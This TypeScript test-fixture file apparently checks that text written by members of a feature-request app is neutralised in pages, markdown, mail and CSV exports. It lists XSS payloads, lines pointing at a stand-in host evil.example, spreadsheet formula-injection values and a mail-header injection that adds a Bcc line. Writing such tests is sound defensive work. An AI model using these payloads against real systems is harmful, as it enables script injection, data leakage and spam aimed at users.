import { anInput, DRAINED, hook, type OwnInput, post } from './an-input.ts';

/** R10, outputs: nothing a member wrote acts where it is shown. */
const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><iframe src="javascript:alert(1)">',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="http://evil.example/">',
  '<style>@import "http://evil.example/x.css"</style>',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '![x](http://evil.example/x.png)',
  '[x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<!--',
  ']]>',
  '{{constructor.constructor("alert(1)")()}}',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028alert(1)//',
];
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("http://evil.example")',
];
const PAGES = { check: 'html', pages: ['report', 'dashboard'] };

/** Asked for by as many people as it takes to be shown everywhere. */
const asked = (text: string, n: number) =>
  Array.from({ length: 3 }, (_, person) =>
    post({
      externalId: `a${n}-${person}`,
      author: { id: `p${n}-${person}`, name: text },
      title: text.slice(0, 290),
      body: `Please add ${text} dark mode. ${text}`,
      channel: text.slice(0, 100),
      tags: [text.slice(0, 100)],
      url: 'javascript:alert(1)',
      bodyFormat: ['text', 'html', 'markdown'][person],
    }),
  );

export const inputs: readonly OwnInput[] = [
  anInput('r10-pages', 'scripts wherever a member can write', [...scripts.flatMap(asked), DRAINED], {
    checks: [
      PAGES,
      { check: 'markdown' },
      { check: 'mail' },
      { check: 'csv', export: 'posts' },
      { check: 'csv', export: 'requests' },
    ],
  }),
  anInput('r10-formulas', 'formulas wherever a member can write', [...formulas.flatMap(asked), DRAINED], {
    checks: [
      { check: 'csv', export: 'posts' },
      { check: 'csv', export: 'requests' },
      { check: 'csv', export: 'report' },
      { check: 'csv', export: 'posts', cellStartsWith: "'=1+1" },
    ],
  }),
  anInput(
    'r10-quotes',
    'quotes and line breaks in a table',
    [post({ externalId: 'q', title: 'a","=1+1', body: 'a"\r\n=1+1,"b' }), DRAINED],
    {
      stored: 1,
      checks: [{ check: 'csv', export: 'posts' }],
    },
  ),
  anInput(
    'r10-mail',
    'a title that begins another header',
    [...asked('dark mode\r\nBcc: everyone@evil.example\r\n\r\n<b>', 0), DRAINED],
    { checks: [{ check: 'mail', lacks: ['\nBcc:'] }, PAGES] },
  ),
  anInput(
    'r10-hook',
    'a script by a webhook',
    [
      hook('discourse', {
        fixture: 'discourse/post_created.json',
        set: {
          '/post/raw': '<script>alert(1)</script> please add dark mode',
          '/post/cooked': '<p><script>alert(1)</script><img src=x onerror=alert(1)> please add dark mode</p>',
          '/post/name': '<script>alert(1)</script>',
          '/post/topic_title': '"><script>alert(1)</script>',
        },
      }),
      DRAINED,
    ],
    { stored: 1, checks: [PAGES, { check: 'markdown' }] },
  ),
];
